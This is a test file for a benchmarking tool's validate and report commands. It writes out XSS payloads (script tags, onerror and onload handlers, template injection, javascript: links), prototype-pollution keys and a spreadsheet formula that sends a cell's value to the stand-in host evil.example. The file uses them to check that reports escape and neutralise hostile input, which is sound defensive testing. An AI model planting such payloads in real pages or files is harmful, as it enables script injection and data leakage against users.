// Corrupted and hostile result files given to `wattbench validate` and `wattbench report`: truncated JSON, wrong
// types, huge strings, deep nesting, a 300 MB file, a directory named .json, a future schema version, prototype keys,
// and script tags / template syntax / markdown links / spreadsheet formulas in device and workload names. Broken
// files are rejected with a reason; hostile but valid ones are shown escaped, never executed (checked in Chromium);
// the report is still produced from the rest.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { existsSync } from 'node:fs';
import { mkdir, open, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fault, tempDir, wb, looksLikeCrash } from './helpers.js';
import { baseResult } from './base-result.js';

const CHROMIUM = '/usr/bin/chromium';
let dir: string;
let hostile: string;
let base: any;

const XSS = {
  script: '<script>window.__pwned=1</script>',
  attr: '"><img src=x onerror="window.__pwned=2">',
  breakout: '</script><script>window.__pwned=3</script>',
  template: "{{constructor.constructor('window.__pwned=4')()}}",
  svg: '<svg onload="window.__pwned=5"></svg>',
  mdLink: '[click me](javascript:window.__pwned=6)',
  formula: "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
};

const deep = (n: number, leaf = '0') => '['.repeat(n) + leaf + ']'.repeat(n);

beforeAll(async () => {
  dir = await tempDir('wb-fault-files-');
  base = JSON.parse(await readFile(await baseResult(dir), 'utf8'));
  hostile = join(dir, 'hostile');
  await mkdir(hostile);
  const put = (name: string, data: unknown) => writeFile(join(hostile, name), typeof data === 'string' ? data : JSON.stringify(data, null, 2));
  const clone = (runId: string) => ({ ...structuredClone(base), runId });

  // valid, hostile: every free-text field a report shows carries markup
  const x = clone('hostile-markup');
  x.devices[0].name = XSS.script;
  x.devices[0].vendor = XSS.svg.slice(0, 64);
  x.workload.name = XSS.attr;
  x.workload.modelSize = XSS.formula.slice(0, 128);
  x.host.cpuModel = XSS.template;
  x.host.os = XSS.mdLink;
  x.software = { ...x.software, [XSS.breakout.slice(0, 40)]: XSS.breakout };
  x.warnings = [...x.warnings, { code: 'HIGH_CV', message: `${XSS.breakout} ${XSS.svg}` }];
  x.errors = [{ code: 'RUN_ERROR', message: XSS.attr, stderrTail: `${XSS.script}\n${XSS.breakout}` }];
  x.workload.config = { note: XSS.breakout, [XSS.script]: XSS.template };
  await put('hostile-markup.json', x);
  // valid, hostile: a 20 MB string where the schema sets no limit (the free-form workload config)
  const huge = clone('hostile-huge');
  huge.workload.config = { blob: 'A'.repeat(20 << 20) + XSS.script };
  await put('hostile-huge.json', huge);
  // valid, hostile: prototype keys in the free-form config
  await put('hostile-proto.json', clone('hostile-proto'));
  const protoText = (await readFile(join(hostile, 'hostile-proto.json'), 'utf8')).replace('"config": {', '"config": { "__proto__": { "polluted": "yes", "toString": 1 }, "constructor": { "prototype": { "polluted": "yes" } },');
  await writeFile(join(hostile, 'hostile-proto.json'), protoText);

  // invalid: each must be rejected with a reason
  const full = JSON.stringify(base, null, 2);
  await put('truncated.json', full.slice(0, Math.floor(full.length / 2)));
  const wrong = clone('wrong-types'); wrong.repetitions = 'three'; wrong.summary = 42; wrong.devices[0].index = 'zero';
  await put('wrong-types.json', wrong);
  const long = clone('long-name'); long.devices[0].name = 'x'.repeat(1_000_000);
  await put('long-name.json', long);
  await put('deep-config.json', JSON.stringify(clone('deep-config')).replace('"config":{', `"config":{"deep":${deep(100_000)},`));
  await put('deep-devices.json', JSON.stringify(clone('deep-devices')).replace(/"devices":\[/, `"devices":[${deep(50_000)},`));
  await put('future.json', { ...clone('future'), schemaVersion: 999 });
  await put('empty.json', '');
  await put('null.json', 'null');
  await put('binary.json', Buffer.from([0x00, 0xff, 0xfe, 0x7b, 0x22, 0x00, 0x80]).toString('latin1'));
  await put(`${XSS.attr.replace(/\//g, '')}.json`, '{"schemaVersion": 1}');
  await mkdir(join(hostile, 'a-folder.json'));
  // a 300 MB file (sparse: no disk used) is refused by its size, not read into memory
  const big = await open(join(hostile, 'oversized.json'), 'w');
  await big.truncate(300 * 1024 * 1024);
  await big.close();
});
afterAll(async () => { if (!process.env.KEEP_FAULT_DIRS) await rm(dir, { recursive: true, force: true }); });

const INVALID = ['truncated', 'wrong-types', 'long-name', 'deep-config', 'deep-devices', 'future', 'empty', 'null', 'binary', 'oversized', 'a-folder'];
const VALID = ['hostile-markup', 'hostile-huge', 'hostile-proto'];

describe('hostile and corrupted result files', () => {
  it('validate: every broken file rejected with a reason (pointer where the schema applies), hostile valid ones accepted, no crash', async () => {
    const files = [...INVALID, ...VALID].map((n) => join(hostile, `${n}.json`));
    const r = await wb(['validate', '--json', ...files], { timeoutMs: 60_000 });
    const rep = (r.code === 2 && !looksLikeCrash(r.stderr) ? JSON.parse(r.stdout) : []) as Array<{ file: string; valid: boolean; reason?: string; problems?: Array<{ pointer: string }> }>;
    const by = (n: string) => rep.find((x) => x.file.endsWith(`/${n}.json`));
    const expectReason: Record<string, RegExp> = {
      truncated: /not valid JSON/, 'deep-config': /nested deeper/, 'deep-devices': /nested deeper/, future: /999/,
      oversized: /over the .*limit/, 'a-folder': /not a regular file/, empty: /not valid JSON/, null: /not a JSON object/, binary: /not valid JSON/,
    };
    const expectPointers: Record<string, string[]> = { 'wrong-types': ['/repetitions', '/summary', '/devices/0/index'], 'long-name': ['/devices/0/name'] };
    // one ledger entry per file: each is its own injected fault
    for (const n of [...INVALID, ...VALID]) {
      await fault('files', `validate: ${n}.json`, async () => {
        expect(looksLikeCrash(r.stderr), r.stderr).toBe(false);
        expect(r.code).toBe(2);
        const x = by(n);
        expect(x, n).toBeTruthy();
        if (VALID.includes(n)) { expect(x!.valid, n).toBe(true); return { expected: 1, found: 1 }; }
        expect(x!.valid, n).toBe(false);
        expect(x!.reason!.length, n).toBeGreaterThan(5);
        if (expectReason[n]) expect(x!.reason, n).toMatch(expectReason[n]!);
        if (expectPointers[n]) expect(x!.problems!.map((p) => p.pointer), n).toEqual(expect.arrayContaining(expectPointers[n]!));
        return { expected: 0, found: 0 };
      });
    }
  });

  it('report: produced from the valid files, broken ones listed with their reason, hostile text escaped and never executed', async () => {
    await fault('files', 'report over corrupted and hostile files (+ one good run)', async () => {
      const good = join(dir, 'base-out');
      const out = join(dir, 'report');
      const r = await wb(['report', hostile, good, '--out', out], { timeoutMs: 90_000 });
      expect(looksLikeCrash(r.stderr), r.stderr.slice(-3000)).toBe(false);
      expect(r.code, r.stderr.slice(-3000)).toBe(0);
      for (const n of INVALID.filter((n) => n !== 'a-folder')) expect(r.stderr, n).toMatch(new RegExp(`skipped .*${n}\\.json`));
      const html = await readFile(join(out, 'report.html'), 'utf8');
      const md = await readFile(join(out, 'report.md'), 'utf8');
      const csv = await readFile(join(out, 'results.csv'), 'utf8');
      // every valid run is in the report: the hostile ones and the good base run
      for (const id of [...VALID, 'base']) expect(csv, id).toContain(id);
      // no markup of ours survives as markup; the text itself is shown (escaped, not silently dropped)
      for (const bad of ['<script>window.__pwned', '<img src=x', '<svg onload', 'onerror="window', 'onload="window']) expect(html.toLowerCase(), bad).not.toContain(bad.toLowerCase());
      expect(html).toMatch(/&lt;script&gt;window\.__pwned(=|&#x3D;)1/); // Handlebars also escapes = and /
      // Markdown: raw text is fine inside code fences (shown, never run); outside them no HTML and no live link
      const prose = md.replace(/^(`{3,})[^\n]*\n[\s\S]*?^\1\s*$/gm, '');
      expect(prose).not.toMatch(/<script|<img|<svg/i);
      expect(prose).not.toMatch(/(?<!\\)\]\(javascript:/);
      // spreadsheet formulas are neutralized in the CSV
      expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
      // the huge string does not blow the report up: it is cut, the rest of the file is kept
      expect(html.length).toBeLessThan(10 << 20);
      return { expected: VALID.length + 1, found: [...VALID, 'base'].filter((id) => csv.includes(id)).length };
    });
  });

  it.skipIf(!existsSync(CHROMIUM))('the hostile report opened in Chromium runs none of the injected scripts', async () => {
    await fault('files', 'hostile report opened in a browser', async () => {
      const out = join(dir, 'report');
      if (!existsSync(join(out, 'report.html'))) await wb(['report', hostile, '--out', out], { timeoutMs: 90_000 });
      const { chromium } = await import('playwright-core');
      const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
      try {
        const page = await browser.newPage();
        const dialogs: string[] = [];
        page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
        await page.goto(`file://${join(out, 'report.html')}`);
        await page.waitForLoadState('load');
        const pwned = await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned);
        expect(pwned).toBeUndefined();
        expect(dialogs).toEqual([]);
        // only the report's own script element exists; none came from the data
        const scripts = await page.evaluate(() => [...document.querySelectorAll('script')].map((s) => s.textContent ?? ''));
        expect(scripts.every((s) => !s.includes('__pwned'))).toBe(true);
        expect(await page.evaluate(() => document.querySelectorAll('img[onerror], svg[onload], iframe').length)).toBe(0);
        // the hostile device name is visible as text
        expect(await page.evaluate(() => document.body.innerText)).toContain('<script>window.__pwned=1</script>');
      } finally {
        await browser.close();
      }
      return { expected: 0, found: 0 };
    });
  });
});
